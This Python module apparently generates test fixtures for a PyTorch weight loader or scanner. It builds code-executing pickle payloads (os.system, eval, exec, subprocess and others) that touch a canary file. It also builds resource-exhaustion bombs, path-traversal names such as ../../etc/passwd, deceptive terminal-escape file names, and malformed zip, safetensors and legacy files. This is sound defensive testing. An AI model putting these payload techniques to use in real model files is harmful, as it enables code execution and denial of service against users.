"""Files made to harm whoever opens them, and files that are simply broken.

Each payload would, if it ran, create the file that is named in `canary`.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import random
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from .amplifying import amplifying
from .opcodes import (
    MAGIC,
    MARK,
    PROTO2,
    PROTOCOL,
    STOP,
    archive,
    call,
    legacy,
    mapping,
    name,
    number,
    numbers,
    pickled,
    real,
    row,
    storage,
    table,
    tensor,
    text,
    written,
)

GOOD = table(weight=tensor())
MIB = 1 << 20


def payloads(canary: str) -> dict[str, bytes]:
    """Pickled values that run code when they are unpickled."""
    shell = text(f"touch {canary}")
    python = text(f"open({canary!r}, 'w').close()")
    opener = name("io", "open")
    module_with_reduce = call(name("torch.nn.modules.container", "Sequential"), call(name("os", "system"), shell))
    chain = call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system"))
    return {
        "os_system": call(name("os", "system"), shell),
        "posix_system": call(name("posix", "system"), shell),
        "nt_system": call(name("nt", "system"), shell),
        "eval": call(name("builtins", "eval"), python),
        "eval_python2": call(name("__builtin__", "eval"), python),
        "exec": call(name("builtins", "exec"), python),
        "compile": call(name("builtins", "exec"), call(name("builtins", "compile"), python, text("x"), text("exec"))),
        "getattr_chain": call(chain, shell),
        "stack_global": text("os") + text("system") + b"\x93" + row(shell) + b"R",
        "stack_global_dotted": text("os") + text("path.os.system") + b"\x93" + row(shell) + b"R",
        "inst": MARK + shell + b"ios\nsystem\n",
        "obj": MARK + name("os", "system") + shell + b"o",
        "newobj": name("subprocess", "Popen") + row(text("touch"), text(canary)) + b"\x81",
        "newobj_keywords": name("subprocess", "Popen") + row(text(f"touch {canary}")) + table(shell=b"\x88") + b"\x92",
        "open": call(opener, text(canary), text("w")),
        "numpy_myeval": call(name("numpy.f2py.crackfortran", "myeval"), python),
        "numpy_runstring": call(name("numpy.testing._private.utils", "runstring"), python, b"}"),
        "collect_env": call(name("torch.utils.collect_env", "run"), shell),
        "nested_torch_load": call(name("torch", "load"), text(canary)),
        "jit_load": call(name("torch.jit", "load"), text(canary)),
        "load_from_bytes": call(name("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", 4) + b"\x80\x02N."),
        "partial": call(call(name("functools", "partial"), name("os", "system"), shell)),
        "map": call(name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), row(shell))),
        "runpy": call(name("runpy", "run_path"), text(canary)),
        "pip": call(name("pip", "main"), b"]" + MARK + text("install") + text("x") + b"e"),
        "pty": call(name("pty", "spawn"), shell),
        "webbrowser": call(name("webbrowser", "open"), text(f"file://{canary}")),
        "ctypes": call(name("ctypes", "CDLL"), text(canary)),
        "copyreg": call(name("copyreg", "__newobj__"), name("subprocess", "Popen"), shell),
        "persistent_call": call(name("os", "system"), shell) + b"Q",
        "extension": b"\x82\x01",
        "module_with_reduce": module_with_reduce,
        "build_on_class": name("torch.nn.modules.module", "Module") + table(__call__=name("os", "system")) + b"b",
        "poison_defaults": name("torch._utils", "_rebuild_tensor_v2")
        + row(b"N", table(__defaults__=row(number(1))))
        + b"b",
        "poison_class": name("collections", "OrderedDict") + table(__init__=name("os", "system")) + b"b",
        "from_type_calls": call(
            name("torch._tensor", "_rebuild_from_type_v2"),
            name("os", "system"),
            name("torch", "Tensor"),
            row(shell),
            b"}",
        ),
        "setstate": name("os", "_wrap_close") + b")\x81" + table(_proc=call(name("os", "system"), shell)) + b"b",
    }


def code_files(canary: str) -> dict[str, bytes]:
    """The payloads in every container, beside a good tensor."""
    files: dict[str, bytes] = {}
    for key, payload in payloads(canary).items():
        files[f"x_{key}.pth"] = archive(pickled(table(weight=tensor(), other=payload)))
    shell = call(name("os", "system"), text(f"touch {canary}"))
    files["x_after_stop.pth"] = archive(pickled(GOOD) + shell + STOP)
    files["x_as_root.pth"] = archive(pickled(shell))
    files["x_as_key.pth"] = archive(pickled(mapping([(shell, tensor())])))
    files["x_as_shape.pth"] = archive(pickled(table(weight=tensor(shape=shell))))
    files["x_as_storage.pth"] = archive(pickled(table(weight=tensor(held=shell))))
    files["x_as_hooks.pth"] = archive(pickled(table(weight=tensor(), module=_module(b"}", shell))))
    bad = pickled(shell)
    for part, data in {
        "magic": legacy(pickled(GOOD), magic=bad),
        "magic_twice": legacy(pickled(GOOD), magic=MAGIC[:-1] + shell + STOP),
        "protocol": legacy(pickled(GOOD), protocol=bad),
        "info": legacy(pickled(GOOD), info=bad),
        "object": legacy(pickled(table(weight=tensor(), x=shell))),
        "keys": legacy(pickled(GOOD), keys=bad),
        "source": legacy(pickled(table(weight=tensor(), x=row(text("module"), shell, text("f"), text("s")) + b"Q"))),
    }.items():
        files[f"x_legacy_{part}.pt"] = data
    files["x_bare0.pkl"] = b"cos\nsystem\n(S'touch " + canary.encode() + b"'\ntR."
    files["x_bare2.pkl"] = bad
    files["x_bare4.pkl"] = b"\x80\x04" + text("os") + text("system") + b"\x93" + row(text(f"touch {canary}")) + b"R."
    script = name("__torch__", "Net") + b")\x81" + table(weight=tensor(), x=shell) + b"b"
    files["x_torchscript.pt"] = archive(
        pickled(script), {"data/0": bytes(16), "constants.pkl": bad, "code/__torch__.py": b"import os\n"}
    )
    files["x_pt2_pickle.pt2"] = exported({"w": {"path_name": "w", "use_pickle": True, "tensor_meta": meta()}})
    files["x_pt2_escape.pt2"] = exported(
        {"w": {"path_name": "../../etc/passwd", "use_pickle": False, "tensor_meta": meta()}}
    )
    files["x_pt2_huge.pt2"] = exported({"w": {"path_name": "w", "use_pickle": False, "tensor_meta": meta(10**14)}})
    files["x_pt2_nonsense.pt2"] = exported({"w": 7, "v": {"path_name": 3, "use_pickle": False, "tensor_meta": []}})
    return files


def _module(parameters: bytes, hooks: bytes = b"}") -> bytes:
    state = table(_parameters=parameters, _buffers=b"}", _modules=b"}", _forward_hooks=hooks)
    return name("gone.net", "Net") + b")\x81" + state + b"b"


def meta(size: int = 4) -> dict[str, object]:
    return {"dtype": 7, "sizes": [{"as_int": size}], "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}}


def exported(weights: dict[str, object]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr("m/archive_format", "pt2")
        zipped.writestr("m/byteorder", "little")
        zipped.writestr("m/data/weights/model_weights_config.json", json.dumps({"config": weights}))
        zipped.writestr("m/data/weights/w", bytes(16))
        zipped.writestr("m/models/model.json", "{}")
    return out.getvalue()


def exhausting_files(scale: int = 1) -> dict[str, bytes]:
    """Pickles that ask for time, memory or depth; floods are a `scale`-th of what the true limits take."""
    in_zip: dict[str, bytes] = {
        "long_binput_27": b"Nr" + struct.pack("<I", 1 << 27),
        "long_binput_31": b"Nr" + struct.pack("<I", (1 << 32) - 1),
        "put_text": b"Np99999999999999999999\n",
        "get_missing": b"h\x07",
        "tuple_hash_bomb": b"}" + b")" + b"2\x86" * 60 + b"Ns",
        "deep_tuple_key": b"}" + b")" + b"\x85" * 200_000 + b"Ns",
        "billion_laughs": b"]"
        + b"".join(b"q" + bytes([i]) + b"]" + b"(" + (b"h" + bytes([i])) * 10 + b"e" for i in range(60)),
        "dag_of_dicts": _dag(60, lambda inner: b"}" + MARK + text("a") + inner + text("b") + inner + b"u"),
        "dag_of_modules": _dag(60, lambda inner: _container(inner, inner)),
        "cyclic_list": b"]q\x00h\x00a",
        "cyclic_dict": b"}q\x00" + text("a") + b"h\x00s",
        "cyclic_module": name("n", "N")
        + b")\x81q\x00"
        + table(_parameters=b"}", _buffers=b"}", _modules=table(a=b"h\x00"))
        + b"b",
        "modules_400_deep": _nested(400, _container),
        "dicts_100000_deep": b"".join(b"}" + text("a") for _ in range(100_000)) + b"N" + b"s" * 100_000,
        "lists_1000000_deep": b"]" * (999_000 // scale) + b"a" * (999_000 // scale - 1),
        "binunicode8_lie": b"\x8d" + struct.pack("<Q", 1 << 62) + b"x",
        "binbytes8_lie": b"\x8e" + struct.pack("<Q", 1 << 33) + b"x",
        "bytearray8_lie": b"\x96" + struct.pack("<Q", (1 << 63) - 1) + b"x",
        "binunicode_lie": b"X" + struct.pack("<I", (1 << 32) - 1) + b"x",
        "frame_lie": b"\x95" + struct.pack("<Q", 1 << 60) + b"N",
        "long4_lie": b"\x8b" + struct.pack("<i", (1 << 31) - 1) + b"x",
        "long4_negative": b"\x8b" + struct.pack("<i", -1),
        "digits_500000": b"I" + b"9" * 500_000 + b"\n",
        "digits_long": b"L" + b"9" * 500_000 + b"L\n",
        "huge_long": b"\x8b" + struct.pack("<i", 8 * MIB) + b"\x7f" * (8 * MIB),
        "huge_long_as_key": b"}\x8b" + struct.pack("<i", 4 * MIB) + b"\x7f" * (4 * MIB) + b"Ns",
        "mark_flood": MARK * (2_000_000 // scale),
        "dup_flood": b"N" + b"2" * (4_000_000 // scale),
        "set_flood": b"\x8f" * (4_000_000 // scale),
        "none_pop_flood": b"N0" * (4_000_000 // scale),
        "memo_flood": b"N" + b"\x94" * (4_000_000 // scale),
        "name_flood": name("a", "b") * (1_200_000 // scale),
        "wide_text": text("\U0001f600" * (4 * MIB)),
        "bad_utf8": b"X" + struct.pack("<I", 2) + b"\xff\xfe",
        "bad_float": b"Fnot a number\n",
        "bad_escape": b"S'\\d\\q'\n",
        "unquoted": b"Sabc\n",
        "empty": b"",
        "pop_empty": b"0",
        "pop_mark_empty": b"1",
        "setitem_on_none": b"NNNs",
        "append_on_tuple": b")Na",
        "odd_setitems": b"}(Nu",
        "tuple3_short": b"N\x87",
        "below_mark": b"N(0000",
        "unknown_opcode": b"\xff",
        "build_nothing": b"b",
        "persid": b"P0\n",
        "pid_number": b"K\x01Q",
        "pid_short": row(text("storage")) + b"Q",
        "pid_no_type": row(text("storage"), b"N", text("0"), text("cpu"), number(4)) + b"Q",
        "obj_empty": b"(o",
        "next_buffer": b"\x97",
        "from_type_chain": _from_type_chain(3000),
    }
    in_zip |= amplifying(scale)
    files = {f"d_{key}.pth": archive(PROTO2 + body + STOP) for key, body in in_zip.items()}
    flood = PROTO2 + b"N0" * (3_000_000 // scale) + b"N."
    files["d_deflated_flood.pth"] = archive(flood, method=zipfile.ZIP_DEFLATED)
    files["d_segfault_687_bytes.pth"] = archive(
        PROTO2 + b"})" + b"\x85" * 200_000 + b"Ns.", method=zipfile.ZIP_DEFLATED
    )
    flood = PROTO2 + b"N0" * (2_350_000 // scale)
    files["d_legacy_floods.pt"] = legacy(
        flood + pickled(GOOD)[2:], protocol=flood + PROTOCOL[2:], info=flood + b"}.", keys=flood + b"]."
    )
    files["d_legacy_endless.pt"] = legacy(PROTO2 + b"]" * 100_000 + STOP)
    files["d_many_rows.pth"] = archive(pickled(b"}" + MARK + _many_rows(210_000 // scale) + b"u"))
    return files


def _dag(levels: int, wrap: Callable[[bytes], bytes]) -> bytes:
    """Each level holds the one below twice: 2**levels values, reached through the memo."""
    body = tensor() + b"q\x00"
    for level in range(levels):
        body += b"0" + wrap(b"h" + bytes([level])) + b"q" + bytes([level + 1])
    return body


def _nested(levels: int, wrap: Callable[[bytes], bytes]) -> bytes:
    body = _module(table(w=tensor()))
    for _ in range(levels):
        body = wrap(body)
    return body


def _container(*children: bytes) -> bytes:
    modules = mapping([(text(str(index)), child) for index, child in enumerate(children)])
    return name("n", "N") + b")\x81" + table(_parameters=b"}", _buffers=b"}", _modules=modules) + b"b"


def _from_type_chain(levels: int) -> bytes:
    function = name("torch._tensor", "_rebuild_from_type_v2")
    arguments = row(b"N", b"N", b"N", b"N")
    for _ in range(levels):
        arguments = row(function, b"N", arguments, b"N")
    return function + arguments + b"R"


def _many_rows(count: int) -> bytes:
    first = tensor() + b"r" + struct.pack("<I", 9)
    rows = [text("first") + first]
    rows += [b"U" + bytes([len(key)]) + key + b"j" + struct.pack("<I", 9) for key in (b"%d" % i for i in range(count))]
    return b"".join(rows)


def tensor_files() -> dict[str, bytes]:
    """Tensors that lie about where their numbers are."""
    shapes: dict[str, bytes] = {
        "numel_1e15": tensor((10**15,)),
        "negative_size": tensor((-4,)),
        "overflow": tensor((1 << 32, 1 << 32), (1, 1)),
        "stride0_1e12": tensor((10**12,), (0,)),
        "stride0_2d": tensor((10**9, 4), (0, 1)),
        "far_offset": tensor((4,), (1,), 1 << 40),
        "offset_1": tensor((4,), (1,), 1),
        "negative_offset": tensor((4,), (1,), -1),
        "negative_stride": tensor((4,), (-1,), 3),
        "ndim_mismatch": tensor((2, 2), (1,)),
        "dims_10000": tensor((1,) * 10_000, (1,) * 10_000),
        "past_storage": tensor((5,)),
        "stride_past": tensor((2, 2), (100, 1)),
        "storage_over_record": tensor((8,), held=storage(numel=8)),
        "missing_record": tensor(held=storage("7")),
        "key_escapes": tensor(held=storage("../data/0")),
        "key_absolute": tensor(held=storage("/etc/passwd")),
        "size_text": tensor(row(text("4"))),
        "size_float": tensor(row(real(4.0))),
        "size_bool": tensor(row(b"\x88")),
        "size_none": tensor(b"N"),
        "size_self": tensor(b"]q\x00h\x00a"),
        "offset_text": tensor(offset=text("0")),
        "no_arguments": call(name("torch._utils", "_rebuild_tensor_v2")),
        "few_arguments": call(name("torch._utils", "_rebuild_tensor_v2"), storage()),
        "negative_numel": tensor(held=storage(numel=-4)),
        "numel_huge": tensor(held=storage(numel=1 << 62)),
        "unknown_storage": tensor(held=storage(kind="EvilStorage")),
        "storage_of_os": tensor(
            held=row(text("storage"), name("os", "FloatStorage"), text("0"), text("cpu"), number(4)) + b"Q"
        ),
        "huge_meta": call(
            name("torch._utils", "_rebuild_meta_tensor_no_storage"),
            name("torch", "float32"),
            numbers(10**12),
            numbers(1),
            b"\x89",
        ),
        "float_tensor_1e12": call(name("torch", "FloatTensor"), number(10**12)),
        "torch_empty": call(name("torch", "empty"), number(10**12)),
        "v3_bad_dtype": call(
            name("torch._utils", "_rebuild_tensor_v3"),
            storage(),
            number(0),
            numbers(4),
            numbers(1),
            b"\x89",
            b"N",
            name("os", "system"),
            b"N",
        ),
        "v3_wide": call(
            name("torch._utils", "_rebuild_tensor_v3"),
            storage(kind="ByteStorage", numel=16),
            number(0),
            numbers(4),
            numbers(1),
            b"\x89",
            b"N",
            name("torch", "complex128"),
            b"N",
        ),
        "zero_size_1e18": tensor((0, 10**18), (1, 1)),
    }
    files = {f"t_{key}.pth": archive(pickled(table(weight=body))) for key, body in shapes.items()}
    files["t_empty_name.pth"] = archive(pickled(mapping([(text(""), tensor())])))
    files["t_number_names.pth"] = archive(pickled(mapping([(number(1), tensor())])))
    files["t_no_tensors.pth"] = archive(pickled(table(epoch=number(3))))
    files["t_hostile_names.pth"] = archive(
        pickled(mapping([(text(hostile), tensor()) for hostile in HOSTILE_NAMES])),
    )
    return files


HOSTILE_NAMES = (
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "[@click=app.quit]w[/]",
    "[/]",
    "line\nbreak",
    "tab\there",
    "\u202egnp.exe",
    "zero\u200bwidth",
    "lone\ud800",
    "x" * 5000,
    "..",
    "../../etc/passwd",
    "/etc/passwd",
    "a..b",
    ".",
    "%s%n",
)


def zip_files() -> dict[str, bytes]:
    """Zip files that are cut, lie about themselves, or are of another kind."""
    good = archive(pickled(GOOD))
    end = good.rindex(b"PK\x05\x06")
    central = good.index(b"PK\x01\x02")
    files = {
        "cut_at_1": good[: len(good) // 100],
        "cut_at_50": good[: len(good) // 2],
        "cut_at_99": good[: len(good) * 99 // 100],
        "cut_last_byte": good[:-1],
        "head_only": good[:40],
        "pk_only": b"PK",
        "junk_before": b"junk" * 10 + good,
        "junk_after": good + b"junk",
        "zeroed_middle": good[: len(good) // 3] + bytes(len(good) // 3) + good[len(good) // 3 * 2 :],
        "encrypted": _patched(good, central + 8, b"\x01\x00"),
        "method_99": _patched(good, central + 10, b"\x63\x00"),
        "size_lie": _patched(good, central + 24, struct.pack("<I", 1 << 30)),
        "both_sizes_lie": _patched(good, central + 20, struct.pack("<II", 1 << 30, 1 << 30)),
        "header_offset_lie": _patched(good, central + 42, struct.pack("<I", 5)),
        "local_name_differs": good.replace(b"archive/data.pkl", b"archive/data.pkX", 1),
        "record_name_differs": good.replace(b"archive/data/0", b"archive/data/9", 1),
        "count_lie": _patched(good, end + 8, struct.pack("<HH", 60_000, 60_000)),
        "count_less": _patched(good, end + 8, struct.pack("<HH", 1, 1)),
        "directory_size_lie": _patched(good, end + 12, struct.pack("<I", 1 << 31)),
        "directory_offset_lie": _patched(good, end + 16, struct.pack("<I", 1 << 31)),
        "comment_lie": _patched(good, end + 20, struct.pack("<H", 500)),
        "several_disks": _patched(good, end + 4, struct.pack("<H", 1)),
        "zip64_without": _patched(good, end + 16, struct.pack("<I", 0xFFFFFFFF)),
        "crc_wrong": _patched(good, central + 16, b"\x01\x02\x03\x04"),
        "two_pickles": _zip({"a/data.pkl": pickled(GOOD), "b/data.pkl": pickled(GOOD)}),
        "same_name_twice": _doubled(),
        "two_ends": good + good,
        "odd_byteorder": archive(pickled(GOOD), {"data/0": bytes(16), "byteorder/..": b"", "byteorderx": b""}),
        "middle_byteorder": _zip({"a/data.pkl": pickled(GOOD), "a/byteorder": b"middle", "a/data/0": bytes(16)}),
        "pickle_bomb": _zip({"a/data.pkl": bytes(60 * MIB)}, zipfile.ZIP_DEFLATED),
        "record_bomb": archive(
            pickled(table(w=tensor((50 * MIB,), held=storage(numel=50 * MIB)))),
            {"data/0": bytes(200 * MIB)},
            zipfile.ZIP_DEFLATED,
        ),
        "overlap": _overlapping(good),
        "many_entries": _zip({f"a/{index}": b"" for index in range(20_000)}),
        "of_pth": _zip({"model.pth": good}),
        "plain": _zip({"readme.txt": b"hello"}),
        "empty_zip": b"PK\x05\x06" + bytes(18),
        "npz": _zip({"a.npy": b"\x93NUMPY"}),
        "keras": _zip({"metadata.json": b"{}", "model.weights.h5": b""}),
        "package": _zip({"p/.data/version": b"1", "p/x.py": b""}),
        "directory_name_lie": _zip({"a/data.pkl/": b""}),
        "deflate_garbage": _deflate_garbage(),
        "not_utf8_name": _patched(good, good.index(b"archive/version"), b"\xff"),
    }
    return {f"z_{key}.pth": data for key, data in files.items()}


def _zip(entries: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zipped:
        for entry, data in entries.items():
            zipped.writestr(entry, data)
    return out.getvalue()


def _doubled() -> bytes:
    data = _zip({"a/data.pkl": pickled(GOOD), "a/data.pkX": pickled(GOOD), "a/data/0": bytes(16)})
    return data.replace(b"data.pkX", b"data.pkl")


def _overlapping(good: bytes) -> bytes:
    """Two directory entries for the bytes of one."""
    data = bytearray(good)
    first = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", first + 1)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def _deflate_garbage() -> bytes:
    data = bytearray(_zip({"a/data.pkl": b"x" * 50}))
    for signature, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        position = data.index(signature) + at
        data[position : position + 2] = b"\x08\x00"
    return bytes(data)


def _patched(data: bytes, at: int, new: bytes) -> bytes:
    return data[:at] + new + data[at + len(new) :]


def other_files() -> dict[str, bytes]:
    """What people mistake for weights."""
    dice = random.Random(7)
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as packed:
        packed.addfile(tarfile.TarInfo("sys_info"))
    return {
        "n_empty.pth": b"",
        "n_one_byte.pth": b"\x80",
        "n_text.pth": b"these are the weights\n",
        "n_utf16.pth": "weights".encode("utf-16"),
        "n_html.pth": b"<!DOCTYPE html><html><body>Sign in</body></html>",
        "n_html_spaced.pth": b"\n\n  <html><head>",
        "n_lfs.pth": b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 5\n",
        "n_random.pth": dice.randbytes(5000),
        "n_zeros.pth": bytes(5000),
        "n_picture.jpg.pth": b"\xff\xd8\xff\xe0" + dice.randbytes(100),
        "n_png.pth": b"\x89PNG\r\n\x1a\n" + bytes(100),
        "n_hdf5.h5": b"\x89HDF\r\n\x1a\n" + bytes(100),
        "n_gguf.gguf": b"GGUF\x03\x00\x00\x00",
        "n_gzip.pth.gz": gzip.compress(archive(pickled(GOOD))),
        "n_tar.pth": tar.getvalue(),
        "n_npy.npy": b"\x93NUMPY\x01\x00",
        "n_json.json": b'{"a": 1}',
        "n_index.json": b'{"weight_map": {"w": "../../../etc/passwd"}}',
        "n_7z.7z": b"7z\xbc\xaf\x27\x1c" + bytes(20),
        "n_rar.rar": b"Rar!\x1a\x07\x00",
        "n_onnx.onnx": b"\x08\x08\x12\x07pytorch\x1a\x052.0.0",
        "n_elf.pth": b"\x7fELF" + bytes(60),
        "n_bare_pickle.pkl": pickle.dumps({"a": [1, 2]}),
    }


def legacy_files() -> dict[str, bytes]:
    """The format before torch 1.6, broken."""
    good = legacy(pickled(GOOD))
    many = pickled(b"]" + MARK + text("0") + text("1") + b"e")
    files = {
        "cut": good[:-5],
        "cut_in_pickle": good[: len(good) // 2],
        "magic_only": MAGIC,
        "no_numbers": legacy(pickled(GOOD), tail=b""),
        "numel_minus_1": legacy(pickled(GOOD), tail=struct.pack("<q", -1) + bytes(16)),
        "numel_2_62": legacy(pickled(GOOD), tail=struct.pack("<q", 1 << 62) + bytes(16)),
        "protocol_1000": legacy(pickled(GOOD), protocol=b"\x80\x02M\xe8\x03."),
        "keys_no_list": legacy(pickled(GOOD), keys=pickled(b"N")),
        "keys_numbers": legacy(pickled(GOOD), keys=pickled(b"]" + MARK + number(0) + b"e")),
        "keys_missing": legacy(pickled(GOOD), keys=pickled(b"]")),
        "keys_twice": legacy(pickled(GOOD), keys=many),
        "info_no_dict": legacy(pickled(GOOD), info=pickled(b"N")),
        "view_bad": legacy(
            pickled(
                table(
                    w=tensor(
                        held=row(
                            text("storage"),
                            name("torch", "FloatStorage"),
                            text("0"),
                            text("cpu"),
                            number(4),
                            row(text("v"), number(3), number(9)),
                        )
                        + b"Q"
                    )
                )
            )
        ),
    }
    return {f"l_{key}.pt": data for key, data in files.items()}


def safetensors_bytes(header: object, data: bytes = bytes(16), size: int | None = None) -> bytes:
    packed = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(packed) if size is None else size) + packed + data


def safetensors_files() -> dict[str, bytes]:
    def one(**changes: object) -> bytes:
        return safetensors_bytes({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]} | changes})

    two = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    good = one()
    files = {
        "length_2_63": safetensors_bytes({"w": {}}, size=1 << 63),
        "length_past_end": safetensors_bytes({"w": {}}, size=100_000),
        "length_1gb": safetensors_bytes(b"{" + b" " * 100, size=1 << 30),
        "deep_json": safetensors_bytes(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        "duplicate_keys": safetensors_bytes(b'{"w":%s,"w":%s}' % (json.dumps(two).encode(), json.dumps(two).encode())),
        "overlap": safetensors_bytes({"a": two, "b": two | {"data_offsets": [4, 12]}}),
        "negative_shape": one(shape=[-4]),
        "float_shape": one(shape=[4.0]),
        "bool_shape": one(shape=[True]),
        "huge_shape": one(shape=[10**18, 10**18]),
        "text_shape": one(shape="4"),
        "bad_dtype": one(dtype="F31"),
        "dtype_list": one(dtype=["F32"]),
        "offsets_past_end": one(data_offsets=[0, 1 << 40]),
        "offsets_reversed": one(data_offsets=[16, 0]),
        "offsets_one": one(data_offsets=[16]),
        "offsets_none": one(data_offsets=None),
        "shape_and_size": one(shape=[3]),
        "metadata_list": safetensors_bytes({"__metadata__": [1]}),
        "metadata_number": safetensors_bytes({"__metadata__": {"a": 1}}),
        "header_list": safetensors_bytes(b"{]"),
        "header_no_json": safetensors_bytes(b"{nonsense}"),
        "header_nan": safetensors_bytes(b'{"w": NaN}'),
        "digits": safetensors_bytes(b'{"w": ' + b"9" * 500_000 + b"}"),
        "not_utf8": safetensors_bytes(b'{"\xff": 1}'),
        "cut": good[:-4],
        "cut_header": good[:20],
        "zero_size_1e18": one(shape=[0, 10**18], data_offsets=[0, 0]),
        "tensor_number": safetensors_bytes({"w": 3}),
        "empty_header": safetensors_bytes({}),
        "wide_header": safetensors_bytes(b'{"a":[' + b"{}," * 3_000_000 + b"{}]}"),
    }
    return {f"s_{key}.safetensors": data for key, data in files.items()}


def write_all(folder: Path, canary: Path, scale: int = 1) -> list[Path]:
    """Every hostile and broken file, and the things that are no files at all; see `exhausting_files`."""
    files: dict[str, bytes] = {}
    for part in (
        code_files(str(canary)),
        exhausting_files(scale),
        tensor_files(),
        zip_files(),
        other_files(),
        legacy_files(),
        safetensors_files(),
    ):
        files |= part
    paths = [written(folder / key, data) for key, data in files.items()]
    (folder / "f_folder").mkdir()
    os.mkfifo(folder / "f_fifo")
    (folder / "f_loop").symlink_to(folder / "f_loop")
    (folder / "f_to_fifo").symlink_to(folder / "f_fifo")
    (folder / "f_nowhere").symlink_to(folder / "missing")
    paths += [folder / name for name in ("f_folder", "f_fifo", "f_loop", "f_to_fifo", "f_nowhere", "f_missing")]
    return [*paths, Path("/dev/zero"), Path("/dev/null")]
